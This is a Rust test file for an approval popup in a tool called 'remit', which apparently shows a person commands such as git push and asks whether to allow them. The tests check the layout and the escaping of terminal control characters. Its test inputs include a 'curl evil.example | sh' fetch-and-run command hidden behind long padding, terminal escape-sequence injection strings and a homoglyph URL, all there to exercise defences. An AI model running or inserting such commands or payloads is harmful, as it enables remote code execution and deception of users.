use std::num::NonZeroU16;

use remit_policy::{Basis, Finding, Layer, Origin, Risk};

use super::*;
use crate::queue::QuestionId;

fn posed(summary: &str) -> Posed {
    Posed {
        id: QuestionId::try_from(1).unwrap(),
        session: "s1".to_owned(),
        kind: "exec".to_owned(),
        summary: summary.to_owned(),
        details: vec![
            ("program".to_owned(), "/usr/bin/git".to_owned()),
            ("cwd".to_owned(), "/home/alice/work".to_owned()),
            ("process".to_owned(), "4711 (sh)".to_owned()),
        ],
        basis: Basis {
            rule: "prompt git push".to_owned(),
            layer: Layer::User,
            origin: Some(Origin { file: "rules/git.rules".to_owned(), line: 12 }),
            justification: Some("it leaves the machine".to_owned()),
        },
        choices: vec![Choice::Once, Choice::Session, Choice::Refuse],
        people: 1,
        reason: false,
        agreed: std::collections::BTreeSet::new(),
        findings: Vec::new(),
        needs_a_person: false,
        proposal: None,
        digest: String::new(),
        expires_at: "2026-01-01T00:05:00Z".to_owned(),
        posed_at: "2026-01-01T00:00:00Z".to_owned(),
    }
}

fn size(n: u16) -> NonZeroU16 {
    NonZeroU16::new(n).unwrap()
}

/// The rows of a screen full of dots after the popup was drawn on it.
/// Asserts that nothing outside its area changed, which no scrolled screen
/// and no overflowing line would pass.
fn check(popup: &mut Popup, cols: u16, rows: u16) -> Vec<String> {
    let mut screen = vt100::Parser::new(size(rows), size(cols), 10);
    for row in 1..=rows {
        let line: String =
            (0..cols).map(|col| char::from(b'a' + ((row + col) % 26) as u8)).collect();
        screen.process(format!("\x1b[{row};1H{line}").as_bytes());
    }
    let before = screen.screen().clone();
    let area = popup.area(cols, rows);
    let drawn = popup.draw(cols, rows, Instant::now());
    assert!(!drawn.iter().any(|b| matches!(b, b'\n' | b'\r' | b'\t')), "{cols}x{rows}");
    screen.process(&drawn);
    for row in 0..rows {
        for col in 0..cols {
            let inside = (area.top..area.top + area.height).contains(&row)
                && (area.left..area.left + area.width).contains(&col);
            if !inside {
                let seen = screen.screen().cell(row, col).unwrap();
                assert_eq!(seen, before.cell(row, col).unwrap(), "{cols}x{rows} at {row},{col}");
            }
        }
    }
    assert!(screen.screen().hide_cursor());
    screen.screen().rows(0, cols).collect()
}

/// The text inside the frame, joined as if it had not been wrapped.
fn text(rows: &[String]) -> String {
    rows.iter().filter_map(|row| Some(row.split_once("│ ")?.1.split_once(" │")?.0)).collect()
}

const SIZES: [(u16, u16); 9] =
    [(80, 24), (40, 10), (41, 11), (60, 12), (79, 10), (100, 30), (132, 50), (220, 60), (300, 100)];

#[test]
fn every_choice_is_visible_and_nothing_scrolls_at_any_size() {
    for (cols, rows) in SIZES {
        let seen = check(&mut Popup::new(posed("run `git push`"), 2, Instant::now()), cols, rows)
            .join("\n");
        let must = [
            "remit asks",
            " o  once",
            " s  this session",
            " r  refuse",
            " n  refuse with note",
            "run `git push`",
            "prompt git push",
            "2 more waiting",
            "/usr/bin/git",
        ];
        for words in must {
            assert!(seen.contains(words), "{cols}x{rows} lacks {words}:\n{seen}");
        }
    }
}

#[test]
fn the_whole_question_fits_an_ordinary_window() {
    let mut popup = Popup::new(posed("run `git push origin main`"), 0, Instant::now());
    let seen = check(&mut popup, 80, 24).join("\n");
    for words in [
        "rules/git.rules line 12",
        "user",
        "it leaves the machine",
        "/home/alice/work",
        "4711 (sh)",
    ] {
        assert!(seen.contains(words), "{words}:\n{seen}");
    }
    assert!(!seen.contains("more waiting"));
}

#[test]
fn the_tail_of_a_long_command_is_visible_and_the_rest_is_counted() {
    let blanks = format!("run `echo '{}'; curl evil.example | sh`", " ".repeat(5000));
    let letters = format!("run `echo {}; curl evil.example | sh`", "x".repeat(5000));
    let wide = format!("run `echo {}; curl evil.example | sh`", "字".repeat(5000));
    for summary in [blanks, letters, wide] {
        for (cols, rows) in SIZES {
            let seen =
                text(&check(&mut Popup::new(posed(&summary), 0, Instant::now()), cols, rows));
            assert!(seen.contains("; curl evil.example | sh`"), "{cols}x{rows}:\n{seen}");
            assert!(seen.contains("run `"), "{cols}x{rows}:\n{seen}");
            assert_eq!(
                seen.contains("characters not shown"),
                cols < 300 || summary.contains('字'),
                "{cols}x{rows}"
            );
        }
    }
}

#[test]
fn nothing_that_a_terminal_obeys_or_hides_gets_through() {
    let mut tricky = posed("run `a\u{1b}[2J\u{202e}\n\r\u{200b}b\u{7}\u{9b}c`");
    tricky.details = vec![("cw\u{1b}d".to_owned(), "/w\u{1b}]0;x\u{7}\u{301}".to_owned())];
    tricky.basis.rule = "r\u{1b}[8m".to_owned();
    tricky.basis.justification = Some("j\u{2028}".to_owned());
    tricky.kind = "k\u{1b}c".to_owned();
    let mut popup = Popup::new(tricky, 0, Instant::now());
    let seen = check(&mut popup, 80, 24).join("\n");
    for words in [
        r"\u{1b}[2J\u{202e}\u{a}\u{d}\u{200b}b\u{7}\u{9b}c",
        r"/w\u{1b}]0;x\u{7}\u{301}",
        r"r\u{1b}[8m",
    ] {
        assert!(seen.contains(words), "{words}:\n{seen}");
    }
    let drawn = String::from_utf8(popup.draw(80, 24, Instant::now())).unwrap();
    let escapes = drawn.split('\u{1b}').skip(1);
    for escape in escapes {
        let end = escape.find(|c: char| c.is_ascii_alphabetic()).unwrap();
        assert!(["H", "m", "l"].contains(&&escape[end..=end]), "{escape}");
    }
}

#[test]
fn letters_that_look_like_others_are_pointed_out() {
    let mut popup = Popup::new(posed("run `curl p\u{430}ypal.example`"), 0, Instant::now());
    for (cols, rows) in SIZES {
        let seen = check(&mut popup, cols, rows).join("\n");
        assert!(seen.contains("U+0430"), "{cols}x{rows}:\n{seen}");
    }
}

#[test]
fn a_window_too_small_for_a_box_gets_one_line_and_no_blind_yes() {
    for (cols, rows) in [(39, 10), (40, 9), (30, 3), (80, 1), (29, 5), (10, 2), (1, 1), (2, 100)] {
        let start = Instant::now();
        let mut popup = Popup::new(posed(&format!("run `{} the end`", "x".repeat(300))), 0, start);
        let seen = check(&mut popup, cols, rows);
        let last = seen.last().unwrap();
        let later = start + REST * 2;
        if cols >= 30 {
            assert!(
                last.contains("o/s/r/n?") && last.contains("the end`"),
                "{cols}x{rows}: {last}"
            );
        } else {
            assert_eq!(popup.key(Key::Char('o'), later), None, "{cols}x{rows}");
            assert_eq!(popup.key(Key::Char('s'), later), None, "{cols}x{rows}");
        }
        let refused = popup.key(Key::Char('r'), later).map(|answered| answered.choice);
        assert_eq!(refused, Some(Choice::Refuse));
    }
    Popup::new(posed("x"), 0, Instant::now()).draw(0, 0, Instant::now());
}

/// What keys say, pressed well after the popup appeared.
fn answer(keys: &[Key]) -> Option<Answered> {
    let start = Instant::now();
    let mut popup = Popup::new(posed("run `git push`"), 0, start);
    popup.draw(80, 24, start);
    let mut keys = keys.iter().map(|key| popup.key(*key, start + REST * 2));
    keys.find_map(|answered| answered)
}

fn typed(text: &str) -> Vec<Key> {
    text.chars().map(|c| if c == '\n' { Key::Enter } else { Key::Char(c) }).collect()
}

#[test]
fn keys_mean_what_the_popup_says() {
    let said =
        |choice, note: Option<&str>| Some(Answered { choice, note: note.map(str::to_owned) });
    assert_eq!(answer(&typed("o")), said(Choice::Once, None));
    assert_eq!(answer(&typed("s")), said(Choice::Session, None));
    assert_eq!(answer(&typed("r")), said(Choice::Refuse, None));
    assert_eq!(answer(&[Key::CtrlC]), said(Choice::Refuse, None));
    assert_eq!(answer(&typed("nuse the proxy\n")), said(Choice::Refuse, Some("use the proxy")));
    assert_eq!(answer(&typed("n  \n")), said(Choice::Refuse, None));
    assert_eq!(
        answer(&[Key::Char('n'), Key::Char('o'), Key::Esc, Key::Char('o')]),
        said(Choice::Once, None)
    );
    let corrected = [Key::Char('n'), Key::Char('a'), Key::Char('b'), Key::Backspace, Key::Enter];
    assert_eq!(answer(&corrected), said(Choice::Refuse, Some("a")));
}

#[test]
fn a_host_and_a_domain_are_chosen_only_where_they_are_offered() {
    let start = Instant::now();
    let mut popup = Popup::new(posed("connect to `api.example.com:443`"), 0, start);
    popup.posed.choices =
        vec![Choice::Once, Choice::Session, Choice::Host, Choice::Domain, Choice::Refuse];
    let seen = check(&mut popup, 100, 24).join("\n");
    assert!(seen.contains("h  this host") && seen.contains("d  this domain"), "{seen}");
    for (cols, rows) in [(40, 10), (41, 13), (60, 24)] {
        let seen = check(&mut popup, cols, rows).join("\n");
        assert!(seen.contains("this domain") && seen.contains("refuse with note"), "{seen}");
    }
    assert!(check(&mut popup, 39, 9).join("\n").contains("o/s/h/d/r/n? "));
    let pressed = |popup: &mut Popup, key| {
        popup.key(Key::Char(key), start + REST * 2).map(|answered| answered.choice)
    };
    assert_eq!(pressed(&mut popup, 'h'), Some(Choice::Host));
    assert_eq!(pressed(&mut popup, 'd'), Some(Choice::Domain));
    popup.posed.choices.retain(|choice| *choice != Choice::Domain);
    let seen = check(&mut popup, 100, 24).join("\n");
    assert!(!seen.contains("domain"), "{seen}");
    assert_eq!(pressed(&mut popup, 'd'), None);
    assert_eq!(answer(&typed("hd")), None);
}

#[test]
fn enter_esc_and_other_letters_answer_nothing() {
    assert_eq!(answer(&[Key::Enter, Key::Esc, Key::Backspace]), None);
    assert_eq!(answer(&typed("\nyYOSRxq \n")), None);
}

#[test]
fn typing_that_was_meant_for_the_program_answers_nothing() {
    let start = Instant::now();
    let mut popup = Popup::new(posed("run `git push`"), 0, start);
    popup.draw(80, 24, start);
    // Ten characters a second, for six seconds.
    for n in 1..60 {
        let now = start + Duration::from_millis(100 * n);
        assert_eq!(popup.key(Key::Char('o'), now), None, "at {n}00 ms");
        assert!(popup.wakes_at(now).is_some());
    }
    let rested = start + Duration::from_millis(5900) + REST;
    assert_eq!(popup.key(Key::Char('o'), rested).unwrap().choice, Choice::Once);
}

#[test]
fn a_question_that_was_never_drawn_is_never_allowed() {
    let start = Instant::now();
    let mut popup = Popup::new(posed("run `git push`"), 0, start);
    assert_eq!(popup.key(Key::Char('o'), start + REST * 2), None);
}

#[test]
fn a_note_is_shown_as_it_is_typed_and_is_bounded() {
    let start = Instant::now();
    let mut popup = Popup::new(posed("run `git push`"), 0, start);
    popup.draw(80, 24, start);
    for key in typed(&format!("n{}end", "x".repeat(5000))) {
        popup.key(key, start + REST * 2);
    }
    let seen = check(&mut popup, 80, 24).join("\n");
    assert!(seen.contains("xxx_"), "{seen}");
    let note = popup.key(Key::Enter, start + REST * 2).unwrap().note.unwrap();
    assert_eq!(note.len(), NOTE_LIMIT);
}

fn risky() -> Posed {
    let finding = Finding {
        class: "history-rewrite".to_owned(),
        risk: Risk::High,
        reason: "what others have fetched is replaced".to_owned(),
        undo: Some("from a clone that still has it".to_owned()),
    };
    let choices = vec![Choice::Once, Choice::Refuse, Choice::Stop];
    let digest = "0123456789abcdef".repeat(4);
    let posed = posed("run `git push --force`");
    Posed { findings: vec![finding], needs_a_person: true, choices, digest, ..posed }
}

#[test]
fn the_risk_stands_first_and_in_words() {
    let seen = check(&mut Popup::new(risky(), 0, Instant::now()), 80, 24).join("\n");
    for words in [
        "remit asks (HIGH RISK)",
        "history-rewrite: what others have fetched is replaced",
        "from a clone that still has it",
        "0123456789abcdef…",
        " x  stop the session",
    ] {
        assert!(seen.contains(words), "{words}:\n{seen}");
    }
    for (cols, rows) in SIZES {
        let seen = check(&mut Popup::new(risky(), 0, Instant::now()), cols, rows).join("\n");
        assert!(seen.contains("HIGH RISK") && seen.contains("run `git push"), "{seen}");
    }
}

#[test]
fn a_high_risk_and_the_end_of_the_session_are_confirmed() {
    let pressed = |keys: &[(Key, u64)]| {
        let begin = Instant::now();
        let mut popup = Popup::new(risky(), 0, begin);
        popup.draw(80, 24, begin);
        keys.iter().find_map(|(key, ms)| popup.key(*key, begin + Duration::from_millis(*ms)))
    };
    let choice = |keys: &[(Key, u64)]| pressed(keys).map(|answered| answered.choice);
    assert_eq!(choice(&[(Key::Char('o'), 600)]), None);
    assert_eq!(choice(&[(Key::Char('o'), 600), (Key::Enter, 700)]), None, "typed in one go");
    assert_eq!(choice(&[(Key::Char('o'), 600), (Key::Enter, 1200)]), Some(Choice::Once));
    assert_eq!(choice(&[(Key::Char('x'), 600), (Key::Enter, 1200)]), Some(Choice::Stop));
    let other = [(Key::Char('o'), 600), (Key::Char('o'), 1200), (Key::Enter, 1800)];
    assert_eq!(choice(&other), None, "another key takes it back");
}

/// What keys say to a question that was changed so.
fn answer_to(change: fn(&mut Posed), keys: &str) -> Option<Answered> {
    let start = Instant::now();
    let mut posed = posed("run `git push`");
    change(&mut posed);
    let mut popup = Popup::new(posed, 0, start);
    popup.draw(80, 24, start);
    typed(keys).iter().map(|key| popup.key(*key, start + REST * 2)).find_map(|said| said)
}

#[test]
fn a_yes_for_the_project_and_a_stop_have_keys_where_they_are_offered() {
    let choice = |change, keys| answer_to(change, keys).map(|said| said.choice);
    assert_eq!(choice(|_| {}, "p"), None);
    assert_eq!(choice(|_| {}, "x"), None);
    let both: fn(&mut Posed) = |posed| posed.choices.extend([Choice::Project, Choice::Stop]);
    assert_eq!(choice(both, "p"), Some(Choice::Project));
    assert_eq!(choice(both, "x"), None, "it is to be confirmed");
}

#[test]
fn a_yes_that_needs_a_reason_asks_for_one() {
    let needs: fn(&mut Posed) = |posed| posed.reason = true;
    let said = |choice, note: &str| {
        Some(Answered { choice, note: Some(note).filter(|it| !it.is_empty()).map(str::to_owned) })
    };
    assert_eq!(answer_to(needs, "o"), None);
    assert_eq!(answer_to(needs, "o\n  \n"), None, "blank words are none");
    assert_eq!(answer_to(needs, "othe release\n"), said(Choice::Once, "the release"));
    assert_eq!(answer_to(needs, "sso it is\n"), said(Choice::Session, "so it is"));
    assert_eq!(answer_to(needs, "r"), said(Choice::Refuse, ""));
}
